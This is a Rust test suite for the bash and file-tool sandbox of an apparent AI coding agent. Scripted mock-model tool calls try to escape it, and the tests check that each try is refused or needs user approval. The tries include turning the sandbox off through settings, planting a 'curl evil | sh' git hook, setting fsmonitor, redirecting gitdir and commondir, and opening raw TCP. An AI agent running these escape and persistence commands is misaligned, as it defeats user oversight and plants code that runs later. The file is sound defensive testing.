//! The sandbox end to end: bash commands run under it (writes confined to the workspace;
//! `.nova/`, `.mcp.json` and the files through which git runs programs read-only, missing ones
//! included), the file tools ask before crossing its boundary, `sandbox: false` asks first, and
//! `get_state` reports it.

use crate::support::mock_llm::{MockLlm, Reply};
use crate::support::nova_proc::{EVENT_TIMEOUT, Nova, NovaBuilder, openai_models};
use serde_json::{Value, json};
use std::path::Path;
use tempfile::TempDir;

/// A directory outside every writable root: cargo's scratch directory for tests, unless the
/// checkout itself lies under `/tmp` or `$TMPDIR` (always writable), then one under the home
/// directory's cache.
pub(super) fn outside() -> TempDir {
    let target = Path::new(env!("CARGO_TARGET_TMPDIR"));
    let writable = [Path::new("/tmp").to_path_buf(), std::env::temp_dir()];
    if !writable.iter().any(|w| target.starts_with(w)) {
        return tempfile::tempdir_in(target).unwrap();
    }
    let home = std::env::var_os("HOME").expect("HOME is set");
    let base = Path::new(&home).join(".cache/nova-tests");
    std::fs::create_dir_all(&base).unwrap();
    tempfile::tempdir_in(base).unwrap()
}

fn builder(mock: &MockLlm) -> NovaBuilder {
    // The OpenAI wire keeps the scripted tool call ids.
    Nova::builder().openai(mock)
}

/// Each call's `(isError, text)`, by tool call id.
fn result(events: &[Value], id: &str) -> (bool, String) {
    let end = events
        .iter()
        .find(|e| e["type"] == "tool_execution_end" && e["toolCallId"] == id)
        .unwrap_or_else(|| panic!("no tool_execution_end for {id}"));
    let text = end["result"]["content"][0]["text"]
        .as_str()
        .unwrap_or_default();
    (end["isError"] == true, text.to_owned())
}

fn bash_calls(commands: &[(&str, &str)]) -> Reply {
    commands.iter().fold(Reply::new(), |reply, (id, command)| {
        reply.tool_call(*id, "bash", json!({"command": command}))
    })
}

fn sandbox_state(nova: &mut Nova) -> Value {
    nova.request_ok(json!({"type": "get_state"}))["sandbox"].clone()
}

#[test]
fn workspace_write_confines_bash_writes_to_the_workspace() {
    let out = outside();
    let target = out.path().join("escaped.txt");
    let mock = MockLlm::start();
    mock.push(bash_calls(&[
        (
            "inside",
            "echo hi > inside.txt && mkdir -p d && cat inside.txt",
        ),
        ("outside", &format!("echo x > {}", target.display())),
        (
            "tmp",
            "f=$(mktemp) && echo scratch > $f && cat $f && rm -- \"$f\"",
        ),
        ("devnull", "echo gone > /dev/null && echo ok"),
        (
            "plant",
            r#"mkdir -p .nova && echo '{"sandbox":{"mode":"off"}}' > .nova/settings.json"#,
        ),
    ]));
    mock.push(Reply::text("done"));
    let mut nova = builder(&mock).spawn();
    assert_eq!(
        sandbox_state(&mut nova),
        json!({"mode": "workspace-write", "enforced": true, "network": true})
    );
    // Nothing is written into the project to protect `.nova/`: a missing one is a read-only
    // placeholder only while commands run.
    assert!(!nova.cwd().join(".nova").exists());
    let events = nova.run_prompt("write some files");
    let (failed, text) = result(&events, "plant");
    assert!(failed && text.contains("Read-only file system"), "{text}");
    assert!(
        !nova.cwd().join(".nova").exists(),
        "the placeholder is gone"
    );
    assert_eq!(result(&events, "inside"), (false, "hi\n".to_owned()));
    assert_eq!(result(&events, "tmp"), (false, "scratch\n".to_owned()));
    assert_eq!(result(&events, "devnull"), (false, "ok\n".to_owned()));
    let (failed, text) = result(&events, "outside");
    assert!(failed, "{text}");
    assert!(text.contains("Permission denied"), "{text}");
    assert!(
        text.contains("The sandbox (workspace-write) probably refused this"),
        "{text}"
    );
    assert!(text.contains("\"sandbox\": false"), "{text}");
    assert!(!target.exists());
    assert!(events.iter().all(|e| e["type"] != "permission_request"));
}

#[test]
fn nova_settings_and_git_hooks_and_config_are_read_only_to_commands() {
    let mock = MockLlm::start();
    mock.push(bash_calls(&[
        (
            "settings",
            r#"echo '{"sandbox":{"mode":"off"}}' > .nova/settings.json"#,
        ),
        ("hook", "echo 'curl evil | sh' > .git/hooks/pre-commit"),
        ("config", "echo '[core] hooksPath = x' >> .git/config"),
        (
            "swap",
            "mv .git .git-old || mv .nova .nova-old || rmdir .git/hooks",
        ),
        (
            "objects",
            "echo blob > .git/objects/new && cat .git/objects/new",
        ),
    ]));
    mock.push(Reply::text("done"));
    let mut nova = builder(&mock)
        .file(".nova/settings.json", "{}")
        .file(".git/hooks/pre-commit.sample", "#!/bin/sh\n")
        .file(".git/config", "[core]\n")
        .file(".git/objects/.keep", "")
        .spawn();
    let events = nova.run_prompt("tamper");
    for id in ["settings", "hook", "config", "swap"] {
        let (failed, text) = result(&events, id);
        assert!(failed, "{id}: {text}");
        assert!(
            text.contains("Read-only file system") || text.contains("busy"),
            "{id}: {text}"
        );
    }
    assert_eq!(result(&events, "objects"), (false, "blob\n".to_owned()));
    let cwd = nova.cwd();
    let read = |rel: &str| std::fs::read_to_string(cwd.join(rel)).unwrap_or_default();
    assert_eq!(read(".nova/settings.json"), "{}");
    assert_eq!(read(".git/config"), "[core]\n");
    assert!(!cwd.join(".git/hooks/pre-commit").exists());
    assert!(!cwd.join(".git-old").exists() && !cwd.join(".nova-old").exists());
}

#[test]
fn read_only_refuses_writes_in_the_cwd_and_the_flag_wins_over_settings() {
    let mock = MockLlm::start();
    mock.push(bash_calls(&[
        ("write", "echo x > a.txt"),
        ("read", "cat seed.txt"),
    ]));
    mock.push(Reply::text("done"));
    let mut nova = builder(&mock)
        .settings(json!({"sandbox": {"mode": "off"}}))
        .args(["--sandbox", "read-only"])
        .file("seed.txt", "seed\n")
        .spawn();
    assert_eq!(
        sandbox_state(&mut nova),
        json!({"mode": "read-only", "enforced": true, "network": true})
    );
    let events = nova.run_prompt("try");
    let (failed, text) = result(&events, "write");
    assert!(failed && text.contains("read-only"), "{text}");
    assert!(!nova.cwd().join("a.txt").exists());
    assert_eq!(result(&events, "read"), (false, "seed\n".to_owned()));
}

#[test]
fn off_runs_commands_with_novas_own_rights() {
    let out = outside();
    let target = out.path().join("written.txt");
    let mock = MockLlm::start();
    mock.push(bash_calls(&[(
        "outside",
        &format!("echo x > {} && echo y > .git/hooks/h", target.display()),
    )]));
    mock.push(Reply::text("done"));
    let mut nova = builder(&mock)
        .settings(json!({"sandbox": {"mode": "off"}}))
        .file(".git/hooks/.keep", "")
        .spawn();
    assert_eq!(
        sandbox_state(&mut nova),
        json!({"mode": "off", "enforced": false, "network": true})
    );
    assert!(!nova.cwd().join(".nova").exists(), "off creates nothing");
    let events = nova.run_prompt("write");
    assert_eq!(
        result(&events, "outside"),
        (false, "(no output)".to_owned())
    );
    assert!(target.exists());
    assert!(nova.cwd().join(".git/hooks/h").exists());
}

#[test]
fn network_false_blocks_tcp_connections() {
    let mock = MockLlm::start();
    let url = mock.base_url_openai();
    let authority = url.trim_start_matches("http://").split('/').next().unwrap();
    let port = authority.rsplit(':').next().unwrap().to_owned();
    let connect = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected");
    mock.push(bash_calls(&[("connect", &connect)]));
    mock.push(Reply::text("done"));
    let mut nova = builder(&mock)
        .settings(json!({"sandbox": {"network": false}}))
        .spawn();
    assert_eq!(sandbox_state(&mut nova)["network"], false);
    let events = nova.run_prompt("connect");
    let (failed, text) = result(&events, "connect");
    assert!(
        failed && text.contains("TCP connections are blocked"),
        "{text}"
    );

    mock.push(bash_calls(&[("connect", &connect)]));
    mock.push(Reply::text("done"));
    let mut nova = builder(&mock).spawn();
    let events = nova.run_prompt("connect");
    assert_eq!(
        result(&events, "connect"),
        (false, "connected\n".to_owned())
    );
}

#[test]
fn file_tools_ask_before_writing_outside_the_workspace_or_into_nova() {
    let out = outside();
    let target = out.path().join("notes.txt");
    let mock = MockLlm::start();
    mock.push(
        Reply::new()
            .tool_call(
                "outside",
                "write",
                json!({"path": target.display().to_string(), "content": "approved"}),
            )
            .tool_call(
                "nova",
                "edit",
                json!({"path": ".nova/settings.json", "edits": [{"oldText": "{}", "newText": "{\"sandbox\":{\"mode\":\"off\"}}"}]}),
            )
            .tool_call("inside", "write", json!({"path": "src/new.txt", "content": "free"})),
    );
    mock.push(Reply::text("done"));
    let mut nova = builder(&mock).file(".nova/settings.json", "{}").spawn();
    nova.request_ok(json!({"type": "prompt", "message": "write"}));
    let write_request = nova.wait_for_type("permission_request", EVENT_TIMEOUT);
    assert_eq!(write_request["toolName"], "write");
    assert_eq!(write_request["command"], target.display().to_string());
    let reason = write_request["reason"].as_str().unwrap();
    assert!(
        reason.contains("outside the sandbox's writable roots"),
        "{reason}"
    );
    let edit_request = nova.wait_for_type("permission_request", EVENT_TIMEOUT);
    assert_eq!(edit_request["toolName"], "edit");
    let settings = nova
        .cwd()
        .canonicalize()
        .unwrap()
        .join(".nova/settings.json");
    assert_eq!(edit_request["command"], settings.display().to_string());
    let reason = edit_request["reason"].as_str().unwrap();
    assert!(
        reason.contains(".nova/") && reason.contains("read-only"),
        "{reason}"
    );
    assert!(!target.exists(), "nothing is written before approval");

    nova.answer_permission(&write_request, true);
    nova.answer_permission(&edit_request, false);
    let events = nova.events_until("agent_settled");
    assert!(!result(&events, "outside").0);
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "approved");
    let (failed, text) = result(&events, "nova");
    assert!(failed && text.contains("denied"), "{text}");
    assert_eq!(std::fs::read_to_string(&settings).unwrap(), "{}");
    assert!(!result(&events, "inside").0);
    assert_eq!(
        events
            .iter()
            .filter(|e| e["type"] == "permission_request")
            .count(),
        0,
        "the inside write did not ask"
    );
}

#[test]
fn unsandboxed_bash_always_asks_and_then_runs_without_the_sandbox() {
    let out = outside();
    let target = out.path().join("free.txt");
    let mock = MockLlm::start();
    let command = format!("echo free > {}", target.display());
    mock.push(Reply::new().tool_call("c1", "bash", json!({"command": command, "sandbox": false})));
    mock.push(Reply::new().tool_call("c2", "bash", json!({"command": command, "sandbox": false})));
    mock.push(Reply::text("done"));
    let mut nova = builder(&mock).spawn();
    nova.request_ok(json!({"type": "prompt", "message": "write"}));
    let request = nova.wait_for_type("permission_request", EVENT_TIMEOUT);
    assert_eq!(request["toolName"], "bash");
    assert_eq!(request["command"], command);
    let reason = request["reason"].as_str().unwrap();
    assert!(reason.contains("without the sandbox"), "{reason}");
    nova.answer_permission(&request, false);
    let request = nova.wait_for_type("permission_request", EVENT_TIMEOUT);
    assert!(!target.exists(), "denied: not run");
    nova.answer_permission(&request, true);
    let events = nova.events_until("agent_settled");
    assert!(!result(&events, "c2").0);
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "free\n");
}

/// Inside another sandbox (here, nova's own launcher) mounts are refused, so nova cannot sandbox
/// its commands: it says so once and asks before every bash command.
#[test]
fn where_the_sandbox_cannot_be_applied_every_command_asks() {
    let mock = MockLlm::start();
    mock.push(bash_calls(&[("c1", "echo hi")]));
    mock.push(Reply::text("done"));
    let nova_bin = env!("CARGO_BIN_EXE_nova");
    let outer = json!({
        "parent": std::process::id(),
        "sandbox": {"writable": ["/tmp"], "readOnly": [], "pinned": [], "network": true},
    });
    let mut nova = Nova::builder()
        .models_json(openai_models(&mock))
        .program(
            nova_bin,
            [
                "__sandbox",
                &outer.to_string(),
                "--",
                nova_bin,
                "--mode",
                "rpc",
                "--provider",
                "mock-openai",
                "--model",
                "test-model",
            ],
        )
        .spawn();
    let state = sandbox_state(&mut nova);
    assert_eq!(state["enforced"], false, "{state}");
    let why = state["unavailable"].as_str().unwrap().to_owned();
    assert!(why.contains("mount"), "{why}");
    assert_eq!(
        nova.stderr_with("sandbox unavailable")
            .matches("sandbox unavailable")
            .count(),
        1
    );

    nova.request_ok(json!({"type": "prompt", "message": "hi"}));
    let request = nova.wait_for_type("permission_request", EVENT_TIMEOUT);
    assert_eq!(request["command"], "echo hi");
    let reason = request["reason"].as_str().unwrap();
    assert!(
        reason.contains("sandbox is unavailable") && reason.contains(&why),
        "{reason}"
    );
    nova.answer_permission(&request, true);
    let events = nova.events_until("agent_settled");
    assert_eq!(result(&events, "c1"), (false, "hi\n".to_owned()));
}

/// The unprivileged path (a user namespace instead of root's mount namespace), by running the
/// launcher directly as `nobody`. Skipped where the suite does not run as root or lacks
/// `setpriv`.
#[test]
fn unprivileged_users_get_the_same_protection() {
    let setpriv = Path::new("/usr/bin/setpriv");
    if !nix::unistd::getuid().is_root() || !setpriv.exists() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let cwd = dir.path().canonicalize().unwrap();
    for sub in [".nova", ".git/hooks"] {
        std::fs::create_dir_all(cwd.join(sub)).unwrap();
    }
    let status = std::process::Command::new("chown")
        .args(["-R", "65534:65534"])
        .arg(&cwd)
        .status()
        .unwrap();
    assert!(status.success());
    let spec = json!({
        "parent": std::process::id(),
        "sandbox": {
            "writable": [cwd],
            "readOnly": [cwd.join(".nova"), cwd.join(".git/hooks")],
            "pinned": [cwd.join(".git")],
            "network": true,
        },
    });
    let script = "id -u; echo ok > ok.txt && cat ok.txt; echo x > .nova/x; \
                  echo y > .git/hooks/y; mv .git g; true";
    let output = std::process::Command::new(setpriv)
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(env!("CARGO_BIN_EXE_nova"))
        .arg("__sandbox")
        .arg(spec.to_string())
        .args(["--", "/bin/bash", "-c", script])
        .current_dir(&cwd)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{stdout}{stderr}");
    assert_eq!(stdout, "65534\nok\n", "{stderr}");
    assert_eq!(
        stderr.matches("Read-only file system").count(),
        2,
        "{stderr}"
    );
    assert!(stderr.contains("busy"), "{stderr}");
    assert!(cwd.join(".git").is_dir());
}

/// `git` in `dir`, with an identity; `None` where git is not installed.
fn git(dir: &Path, args: &[&str]) -> Option<String> {
    let out = std::process::Command::new("git")
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "-c",
            "init.defaultBranch=main",
        ])
        .args(args)
        .current_dir(dir)
        .output()
        .ok()?;
    assert!(out.status.success(), "git {args:?}: {out:?}");
    Some(String::from_utf8_lossy(&out.stdout).into_owned())
}

/// A repository with a submodule's git dir (`.git/modules/sub`, its work tree `sub/` pointing
/// at it) and a repository nested in the work tree (`vendor/lib`). `None` without git.
#[allow(clippy::print_stderr)]
fn repository(cwd: &Path) -> Option<()> {
    if git(cwd, &["init", "-q"]).is_none() {
        eprintln!("skipping: git is not installed");
        return None;
    }
    git(cwd, &["commit", "-q", "--allow-empty", "-m", "one"])?;
    let module = cwd.join(".git/modules/sub");
    git(cwd, &["init", "-q", "--bare", module.to_str().unwrap()])?;
    std::fs::create_dir_all(cwd.join("sub")).unwrap();
    std::fs::write(cwd.join("sub/.git"), "gitdir: ../.git/modules/sub\n").unwrap();
    std::fs::create_dir_all(cwd.join("vendor/lib")).unwrap();
    git(&cwd.join("vendor/lib"), &["init", "-q"])?;
    Some(())
}

/// Round 3, classes 3 and 4: through the files git and nova run programs from, missing ones
/// included, a command cannot leave anything that runs later outside the sandbox; commits still
/// work.
#[test]
fn git_indirection_and_mcp_json_are_read_only_to_commands_and_commits_work() {
    let mock = MockLlm::start();
    let builder = builder(&mock);
    if repository(builder.cwd()).is_none() {
        return;
    }
    let commit = "git -c user.name=t -c user.email=t@t";
    let commit = format!(
        "{commit} commit -q --allow-empty -m two && echo x > new.txt && git add new.txt && \
         {commit} commit -q -m three && git log --oneline | wc -l"
    );
    mock.push(bash_calls(&[
        // Ends after the others: their placeholders must outlive them for this one.
        ("slow", "sleep 1; echo /tmp/evil > .git/commondir"),
        ("commondir", "echo /tmp/evil > .git/commondir"),
        (
            "worktree",
            "echo '[core] fsmonitor = evil' > .git/config.worktree",
        ),
        (
            "mcp",
            r#"echo '{"mcpServers":{}}' > .mcp.json || rmdir .mcp.json"#,
        ),
        (
            "submodule",
            "echo '[core] fsmonitor = evil' >> .git/modules/sub/config",
        ),
        (
            "subhook",
            "echo evil > .git/modules/sub/hooks/post-checkout",
        ),
        ("pointer", "echo 'gitdir: /tmp/evil' > sub/.git"),
        ("nested", "echo evil > vendor/lib/.git/hooks/pre-commit"),
        ("moved", "mv vendor/lib vendor/lib2 || mv vendor v2"),
        ("commit", &commit),
    ]));
    mock.push(Reply::text("done"));
    let mut nova = builder.spawn();
    let events = nova.run_prompt("tamper");
    for id in [
        "slow",
        "commondir",
        "worktree",
        "mcp",
        "submodule",
        "subhook",
        "pointer",
        "nested",
        "moved",
    ] {
        let (failed, text) = result(&events, id);
        assert!(failed, "{id}: {text}");
        assert!(
            ["Read-only file system", "busy", "Is a directory"]
                .iter()
                .any(|refused| text.contains(refused)),
            "{id}: {text}"
        );
    }
    assert_eq!(result(&events, "commit"), (false, "3\n".to_owned()));
    let cwd = nova.cwd();
    for gone in [".git/commondir", ".git/config.worktree", ".mcp.json"] {
        assert!(!cwd.join(gone).exists(), "{gone} is left behind");
    }
    assert!(!cwd.join("vendor/lib/.git/hooks/pre-commit").exists());
    assert!(!cwd.join(".git/modules/sub/hooks/post-checkout").exists());
    let read = |rel: &str| std::fs::read_to_string(cwd.join(rel)).unwrap();
    assert!(!read(".git/modules/sub/config").contains("fsmonitor"));
    assert_eq!(read("sub/.git"), "gitdir: ../.git/modules/sub\n");
    assert!(cwd.join("vendor/lib/.git").is_dir());
    assert_eq!(git(&cwd, &["rev-list", "--count", "HEAD"]).unwrap(), "3\n");
}

#[test]
fn file_tools_ask_before_writing_where_git_or_nova_would_run_code() {
    let mock = MockLlm::start();
    let builder = builder(&mock);
    if repository(builder.cwd()).is_none() {
        return;
    }
    let targets = [
        (".git/commondir", ".git/commondir"),
        (".mcp.json", ".mcp.json"),
        (".git/modules/sub/config", ".git/config"),
        ("vendor/lib/.git/hooks/pre-commit", ".git/hooks"),
    ];
    mock.push(
        targets
            .iter()
            .enumerate()
            .fold(Reply::new(), |reply, (i, (path, _))| {
                reply.tool_call(
                    format!("w{i}"),
                    "write",
                    json!({"path": path, "content": "evil"}),
                )
            }),
    );
    mock.push(Reply::text("done"));
    let mut nova = builder.spawn();
    let cwd = nova.cwd().canonicalize().unwrap();
    nova.request_ok(json!({"type": "prompt", "message": "write"}));
    let mut asked = Vec::new();
    for _ in targets {
        let request = nova.wait_for_type("permission_request", EVENT_TIMEOUT);
        nova.answer_permission(&request, false);
        asked.push(request);
    }
    for (path, label) in targets {
        let full = cwd.join(path).display().to_string();
        let request = asked
            .iter()
            .find(|r| r["command"] == full)
            .unwrap_or_else(|| panic!("no request for {path}: {asked:?}"));
        let reason = request["reason"].as_str().unwrap();
        assert!(
            reason.contains(label) && reason.contains("read-only"),
            "{path}: {reason}"
        );
    }
    nova.events_until("agent_settled");
    assert!(!cwd.join(".git/commondir").exists());
    assert!(!cwd.join(".mcp.json").exists());
    assert!(!cwd.join("vendor/lib/.git/hooks/pre-commit").exists());
}
